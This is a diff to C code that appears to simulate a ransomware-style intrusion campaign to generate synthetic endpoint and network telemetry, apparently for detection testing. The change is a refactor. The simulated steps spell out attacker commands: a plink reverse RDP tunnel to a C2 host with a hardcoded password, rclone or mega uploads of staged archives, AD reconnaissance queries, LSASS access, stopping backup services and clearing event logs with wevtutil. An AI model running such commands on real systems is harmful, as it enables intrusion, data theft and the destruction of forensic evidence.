@@ -30,6 +30,36 @@ static const char *implant_image(sim_ctx *x, const sim_user *u, char *buf, size_
     return buf;
 }
 
+/* Where the actor's commands run: an account (its DOMAIN\\name) on a host, and the
+ * implant's image there (for a foothold user at their workstation). */
+typedef struct seat {
+    uint32_t u, h;
+    sim_user *us;
+    sim_host *host;
+    char user[48], impl[160];
+} seat;
+
+static seat seat_at(sim_ctx *x, uint32_t u, uint32_t h)
+{
+    seat d = {.u = u, .h = h, .us = &x->org.users[u], .host = &x->org.hosts[h]};
+    sim_dom_user(x, d.us, d.user);
+    implant_image(x, d.us, d.impl, sizeof d.impl);
+    return d;
+}
+
+/* A user at their own workstation. */
+static seat seat_desk(sim_ctx *x, uint32_t u)
+{
+    return seat_at(x, u, x->org.users[u].ws);
+}
+
+/* The step's truth names the account and the host. */
+static void seat_touched(sim_step *s, const seat *d)
+{
+    camp_touch_user(s, d->u);
+    camp_touch_host(s, d->h);
+}
+
 /* The side-loading pair lives in C:\\ProgramData\\FOLDER; the playbook's host tool is named
  * "FOLDER\\program.exe" (the scheduled task takes the folder's name). */
 static void sideload_paths(const sim_campaign *c, char *dir, char *task, char *host, char *dll, size_t cap)
@@ -102,21 +132,19 @@ void act_open_attachment(sim_ctx *x, sim_step *s, uint32_t k, int64_t t)
 {
     sim_campaign *c = x->camp;
     camp_cast(x);
-    sim_org *o = &x->org;
-    uint32_t u = c->targets[k % c->ntargets];
-    sim_user *us = &o->users[u];
-    sim_host *ws = &o->hosts[us->ws];
+    seat d = seat_desk(x, c->targets[k % c->ntargets]);
+    sim_host *ws = d.host;
+    const char *user = d.user;
     if (c->np0 < NEL(c->p0))
-        c->p0[c->np0++] = u;
-    camp_own(c, us->ws);
+        c->p0[c->np0++] = d.u;
+    camp_own(c, d.h);
     const char *lure = camp_tool_name(c, "lure", "Job_Description.iso");
     const char *loader = camp_tool_name(c, "loader", "setup.exe");
     const char *outlook = "C:\\Program Files (x86)\\Microsoft Office\\Office15\\OUTLOOK.EXE";
-    char user[48], path[200], img[160], cmd[400], hashes[160];
-    sim_dom_user(x, us, user);
+    char path[200], img[160], cmd[400], hashes[160];
     snprintf(path, sizeof path,
              "C:\\Users\\%s\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\%08X\\%s",
-             us->name, (unsigned)(sim_next(&x->crng) & 0xffffffff), lure);
+             d.us->name, (unsigned)(sim_next(&x->crng) & 0xffffffff), lure);
     sim_sm_file(x, ws, t, user, outlook, path);
     camp_tool_hashes(c, "loader", hashes, sizeof hashes);
     int64_t t1 = t + (int64_t)(20 + sim_below(&x->crng, 60)) * SIM_US;
@@ -149,8 +177,7 @@ void act_open_attachment(sim_ctx *x, sim_step *s, uint32_t k, int64_t t)
             snprintf(c->implant_path, sizeof c->implant_path, "%s", img);
         }
     }
-    camp_touch_user(s, u);
-    camp_touch_host(s, us->ws);
+    seat_touched(s, &d);
 }
 
 /* The signed program started (by its task) loads the unsigned DLL planted beside it. */
@@ -158,12 +185,10 @@ void act_sideload(sim_ctx *x, sim_step *s, uint32_t k, int64_t t)
 {
     sim_campaign *c = x->camp;
     camp_cast(x);
-    sim_org *o = &x->org;
-    uint32_t u = c->np0 ? c->p0[k % c->np0] : camp_p0_user(x);
-    sim_user *us = &o->users[u];
-    sim_host *ws = &o->hosts[us->ws];
-    char user[48], dir[160], task[160], img[160], dllp[160], cmd[300], hashes[160], uid[20];
-    sim_dom_user(x, us, user);
+    seat d = seat_desk(x, c->np0 ? c->p0[k % c->np0] : camp_p0_user(x));
+    sim_host *ws = d.host;
+    const char *user = d.user;
+    char dir[160], task[160], img[160], dllp[160], cmd[300], hashes[160], uid[20];
     sideload_paths(c, dir, task, img, dllp, sizeof img);
     snprintf(cmd, sizeof cmd, "%s %08X", img, (unsigned)(sim_mix(x->seed) & 0xffffffff));
     camp_tool_hashes(c, "host", hashes, sizeof hashes);
@@ -178,8 +203,7 @@ void act_sideload(sim_ctx *x, sim_step *s, uint32_t k, int64_t t)
         sim_tls(x, t + 2 * SIM_US, ws->ip, srv->ip, srv->port, NULL, 2400, 5200, 2 * SIM_US, uid);
     }
     snprintf(c->implant_path, sizeof c->implant_path, "%s", img);
-    camp_touch_user(s, u);
-    camp_touch_host(s, us->ws);
+    seat_touched(s, &d);
 }
 
 /* ---------------------------------------------------------------- discovery */
@@ -191,13 +215,10 @@ void act_discovery(sim_ctx *x, sim_step *s, uint32_t k, int64_t t)
     sim_campaign *c = x->camp;
     camp_cast(x);
     sim_org *o = &x->org;
-    uint32_t u = camp_p0_user(x);
-    sim_user *us = &o->users[u];
-    sim_host *ws = &o->hosts[us->ws];
-    char user[48], impl[160], cmd[300], img[160];
-    sim_dom_user(x, us, user);
-    implant_image(x, us, impl, sizeof impl);
-    char pdc[96];
+    seat d = seat_desk(x, camp_p0_user(x));
+    sim_host *ws = d.host;
+    const char *user = d.user;
+    char cmd[300], img[160], pdc[96];
     snprintf(pdc, sizeof pdc, "%s", o->ad);
     static const char *const base[][2] = {
         {"whoami.exe", "whoami /all"},
@@ -213,7 +234,7 @@ void act_discovery(sim_ctx *x, sim_step *s, uint32_t k, int64_t t)
         {"quser.exe", "quser"},
         {"net.exe", "net localgroup administrators"},
     };
-    sim_sm_process(x, ws, t, user, CMD, "C:\\Windows\\system32\\cmd.exe", impl, NULL);
+    sim_sm_process(x, ws, t, user, CMD, "C:\\Windows\\system32\\cmd.exe", d.impl, NULL);
     uint32_t n = 5 + sim_below(&x->crng, 3);
     int64_t at = t;
     for (uint32_t i = 0; i < n; i++) {
@@ -230,15 +251,14 @@ void act_discovery(sim_ctx *x, sim_step *s, uint32_t k, int64_t t)
                                         "-gcb -sc trustdmp > trustdmp.txt", "-sc dclist > dclist.txt"};
         char hashes[160];
         camp_tool_hashes(c, "recon", hashes, sizeof hashes);
-        snprintf(img, sizeof img, "C:\\Users\\%s\\AppData\\Local\\Temp\\%s", us->name, ad->name);
+        snprintf(img, sizeof img, "C:\\Users\\%s\\AppData\\Local\\Temp\\%s", d.us->name, ad->name);
         for (uint32_t i = 0; i < NEL(q); i++) {
             at += (int64_t)(3 + sim_below(&x->crng, 10)) * SIM_US;
             snprintf(cmd, sizeof cmd, "%s %s", ad->name, q[i]);
             sim_sm_process(x, ws, at, user, img, cmd, CMD, hashes);
         }
     }
-    camp_touch_user(s, u);
-    camp_touch_host(s, us->ws);
+    seat_touched(s, &d);
 }
 
 /* ---------------------------------------------------------------- credentials */
@@ -251,12 +271,8 @@ void act_lsass_read(sim_ctx *x, sim_step *s, uint32_t k, int64_t t)
     sim_campaign *c = x->camp;
     camp_cast(x);
     sim_org *o = &x->org;
-    uint32_t u = camp_p0_user(x);
-    sim_user *us = &o->users[u];
-    sim_host *ws = &o->hosts[us->ws];
-    char user[48], impl[160], trace[300];
-    sim_dom_user(x, us, user);
-    implant_image(x, us, impl, sizeof impl);
+    seat d = seat_desk(x, camp_p0_user(x));
+    char trace[300];
     uint64_t r = sim_next(&x->crng);
     snprintf(
         trace, sizeof trace,
@@ -264,13 +280,12 @@ void act_lsass_read(sim_ctx *x, sim_step *s, uint32_t k, int64_t t)
         "UNKNOWN(%016llX)",
         (unsigned long long)(0x1a0000000ULL + (r & 0xfffffff)),
         (unsigned long long)(0x1a0000000ULL + ((r >> 28) & 0xfffffff)));
-    sim_sm_process_access(x, ws, t, user, impl, "C:\\Windows\\system32\\lsass.exe",
+    sim_sm_process_access(x, d.host, t, d.user, d.impl, "C:\\Windows\\system32\\lsass.exe",
                           k % 2 ? "0x1FFFFF" : "0x1010", trace);
-    sim_ev_explicit(x, ws, t + (int64_t)(60 + sim_below(&x->crng, 600)) * SIM_US, us, o->users[c->admin].name,
-                    o->hosts[o->dcs[0]].fqdn, CMD);
-    camp_touch_user(s, u);
+    sim_ev_explicit(x, d.host, t + (int64_t)(60 + sim_below(&x->crng, 600)) * SIM_US, d.us,
+                    o->users[c->admin].name, o->hosts[o->dcs[0]].fqdn, CMD);
+    seat_touched(s, &d);
     camp_touch_user(s, c->admin);
-    camp_touch_host(s, us->ws);
 }
 
 /* ---------------------------------------------------------------- lateral movement */
@@ -319,22 +334,21 @@ void act_rdp_tunnel(sim_ctx *x, sim_step *s, uint32_t k, int64_t t)
     sim_campaign *c = x->camp;
     camp_cast(x);
     sim_org *o = &x->org;
-    uint32_t u = camp_p0_user(x);
-    sim_user *us = &o->users[u];
-    uint32_t from = us->ws, to = camp_new_target(x);
-    sim_host *src = &o->hosts[from], *dst = &o->hosts[to];
+    seat d = seat_desk(x, camp_p0_user(x));
+    uint32_t to = camp_new_target(x);
+    sim_host *src = d.host, *dst = &o->hosts[to];
     sim_user *a = &o->users[c->admin];
     const camp_c2 *srv = c->nc2 ? &c->c2[k % c->nc2] : NULL;
     uint32_t c2ip = srv ? srv->ip : sim_hosting_addr(&x->crng, NULL);
     uint16_t c2port = srv ? srv->port : 443;
-    char user[48], cmd[300], img[160], ipt[16], c2t[16], uid[20];
+    char cmd[300], img[160], ipt[16], c2t[16], uid[20];
     const char *tun = camp_tool_name(c, "tunnel", "plink.exe");
     snprintf(img, sizeof img, "C:\\ProgramData\\%s", tun);
     sim_fmt_ip4(ipt, dst->ip);
     sim_fmt_ip4(c2t, c2ip);
     snprintf(cmd, sizeof cmd, "%s -batch -ssh -P %u -l support -pw Xq7!pT2 -R 127.0.0.1:%u:%s:3389 %s", tun,
              (unsigned)c2port, 13389 + k % 50, ipt, c2t);
-    sim_sm_process(x, src, t, sim_dom_user(x, us, user), img, cmd, CMD, NULL);
+    sim_sm_process(x, src, t, d.user, img, cmd, CMD, NULL);
     int64_t dur = (int64_t)(30 + sim_below(&x->crng, 90)) * SIM_MIN;
     uint64_t bytes = 3000000 + sim_below(&x->crng, 20000000);
     sim_conn tc = {t + SIM_US,
@@ -355,9 +369,8 @@ void act_rdp_tunnel(sim_ctx *x, sim_step *s, uint32_t k, int64_t t)
     static const char *const names[] = {"DESKTOP-9C4K1TN", "WIN-R8U2QHL0D3A", "DESKTOP-HBM2Q7J"};
     sim_ev_logon(x, dst, t + 42 * SIM_US, a, 10, src->ip, names[k % NEL(names)], 0x6200000 + k, true);
     camp_own(c, to);
-    camp_touch_host(s, from);
+    seat_touched(s, &d);
     camp_touch_host(s, to);
-    camp_touch_user(s, u);
     camp_touch_user(s, c->admin);
 }
 
@@ -370,14 +383,15 @@ void act_cloud_exfil(sim_ctx *x, sim_step *s, uint32_t k, int64_t t)
     sim_campaign *c = x->camp;
     camp_cast(x);
     sim_org *o = &x->org;
-    sim_host *st = &o->hosts[c->stage];
-    sim_user *a = &o->users[c->admin];
+    seat d = seat_at(x, c->admin, c->stage);
+    sim_host *st = d.host;
+    const char *user = d.user;
     const char *host = c->cloud[0] ? c->cloud : "content.dropboxapi.com";
     bool mega = strstr(host, "mega") != NULL;
     uint32_t ip = mega ? 0x592ca900 + 20 + k % 40 : 0xa27d0100 + 10 + k % 20; /* MEGA 89.44.169.x, Dropbox */
     const char *up = camp_tool_name(c, "uploader", "rclone.exe");
     bool rclone = strstr(up, "rclone") != NULL;
-    char user[48], img[160], cmd[300], uid[20];
+    char img[160], cmd[300], uid[20];
     snprintf(img, sizeof img, "C:\\Windows\\Temp\\%s", up);
     if (rclone)
         snprintf(cmd, sizeof cmd,
@@ -388,15 +402,14 @@ void act_cloud_exfil(sim_ctx *x, sim_step *s, uint32_t k, int64_t t)
     else
         snprintf(cmd, sizeof cmd, "%s put C:\\Windows\\Temp\\~DF%04X.tmp.part%u.rar /upload/%u.rar", up,
                  (unsigned)(sim_mix(x->seed) & 0xffff), k % 3 + 1, k);
-    sim_sm_process(x, st, t, sim_dom_user(x, a, user), img, cmd, CMD, NULL);
+    sim_sm_process(x, st, t, user, img, cmd, CMD, NULL);
     sim_sm_dns(x, st, t + 100000, user, img, host, ip);
     sim_dns(x, t + 100000, st->ip, host, ip, uid);
     uint64_t bytes = (uint64_t)(s->gb * 1e9 / s->count * (0.6 + 0.8 * sim_unit(&x->crng)));
     sim_sm_netconn(x, st, t + 200000, user, img, ip, 443, host);
     sim_tls(x, t + 200000, st->ip, ip, 443, host, bytes, bytes / 300 + 5000,
             (int64_t)(bytes / 6000000 + 1) * SIM_US, uid);
-    camp_touch_host(s, c->stage);
-    camp_touch_user(s, c->admin);
+    seat_touched(s, &d);
 }
 
 /* ---------------------------------------------------------------- impact */
@@ -423,11 +436,7 @@ void act_stop_services(sim_ctx *x, sim_step *s, uint32_t k, int64_t t)
     sim_campaign *c = x->camp;
     camp_cast(x);
     sim_org *o = &x->org;
-    uint32_t h = k == 0 ? o->backup : o->sqls[(k - 1) % o->nsql];
-    sim_host *d = &o->hosts[h];
-    sim_user *a = &o->users[c->admin];
-    char user[48];
-    sim_dom_user(x, a, user);
+    seat d = seat_at(x, c->admin, k == 0 ? o->backup : o->sqls[(k - 1) % o->nsql]);
     static const char *const svc[][3] = {
         {"VeeamBackupSvc", "Veeam Backup Service", "net.exe stop \"VeeamBackupSvc\" /y"},
         {"VeeamDeploySvc", "Veeam Installer Service", "net.exe stop \"VeeamDeploySvc\" /y"},
@@ -436,11 +445,10 @@ void act_stop_services(sim_ctx *x, sim_step *s, uint32_t k, int64_t t)
     };
     for (uint32_t i = k == 0 ? 0 : 2; i < (k == 0 ? 2u : 4u); i++) {
         int64_t ti = t + (int64_t)i * 4 * SIM_US;
-        sim_sm_process(x, d, ti, user, "C:\\Windows\\System32\\net.exe", svc[i][2], CMD, NULL);
-        sim_ev_service_state(x, d, ti + 2 * SIM_US, svc[i][1], "stopped");
+        sim_sm_process(x, d.host, ti, d.user, "C:\\Windows\\System32\\net.exe", svc[i][2], CMD, NULL);
+        sim_ev_service_state(x, d.host, ti + 2 * SIM_US, svc[i][1], "stopped");
     }
-    camp_touch_host(s, h);
-    camp_touch_user(s, c->admin);
+    seat_touched(s, &d);
 }
 
 /* The encryptor on one host: started by SYSTEM, files rewritten under the ransom extension
@@ -488,11 +496,10 @@ void act_cleanup(sim_ctx *x, sim_step *s, uint32_t k, int64_t t)
     sim_campaign *c = x->camp;
     camp_cast(x);
     sim_org *o = &x->org;
-    sim_user *a = &o->users[c->admin];
-    uint32_t h = k % 2 == 0 ? c->stage : o->users[camp_p0_user(x)].ws;
-    sim_host *d = &o->hosts[h];
-    char user[48], p[200];
-    sim_dom_user(x, a, user);
+    seat w = seat_at(x, c->admin, k % 2 == 0 ? c->stage : o->users[camp_p0_user(x)].ws);
+    sim_host *d = w.host;
+    const char *user = w.user;
+    char p[200];
     unsigned tag = (unsigned)(sim_mix(x->seed) & 0xffff);
     if (k % 2 == 0) {
         sim_sm_process(x, d, t, user, CMD, "cmd.exe /c del /f /q C:\\Windows\\Temp\\~DF*.rar", CMD, NULL);
@@ -511,8 +518,7 @@ void act_cleanup(sim_ctx *x, sim_step *s, uint32_t k, int64_t t)
         sim_sm_process(x, d, t + 2 * SIM_US, user, "C:\\Windows\\System32\\sc.exe",
                        "sc.exe delete WinsSchMgmt", CMD, NULL);
     }
-    camp_touch_host(s, h);
-    camp_touch_user(s, c->admin);
+    seat_touched(s, &w);
 }
 
 /* Event logs cleared with wevtutil on the hosts the actor holds (Security 1102, System 104). */
@@ -521,20 +527,15 @@ void act_clear_logs(sim_ctx *x, sim_step *s, uint32_t k, int64_t t)
     sim_campaign *c = x->camp;
     camp_cast(x);
     sim_org *o = &x->org;
-    uint32_t h = c->nowned ? c->owned[k % c->nowned] : o->users[camp_p0_user(x)].ws;
-    sim_host *d = &o->hosts[h];
-    sim_user *a = &o->users[c->admin];
-    char user[48];
-    sim_dom_user(x, a, user);
+    seat d = seat_at(x, c->admin, c->nowned ? c->owned[k % c->nowned] : o->users[camp_p0_user(x)].ws);
     static const char *const chans[] = {"Security", "System", "Microsoft-Windows-PowerShell/Operational"};
     for (uint32_t i = 0; i < NEL(chans); i++) {
         char cmd[120];
         int64_t ti = t + (int64_t)i * 2 * SIM_US;
         snprintf(cmd, sizeof cmd, "wevtutil.exe cl \"%s\"", chans[i]);
-        sim_sm_process(x, d, ti, user, "C:\\Windows\\System32\\wevtutil.exe", cmd, CMD, NULL);
+        sim_sm_process(x, d.host, ti, d.user, "C:\\Windows\\System32\\wevtutil.exe", cmd, CMD, NULL);
         if (i < 2)
-            sim_ev_log_cleared(x, d, ti + 300000, a, chans[i]);
+            sim_ev_log_cleared(x, d.host, ti + 300000, d.us, chans[i]);
     }
-    camp_touch_host(s, h);
-    camp_touch_user(s, c->admin);
+    seat_touched(s, &d);
 }
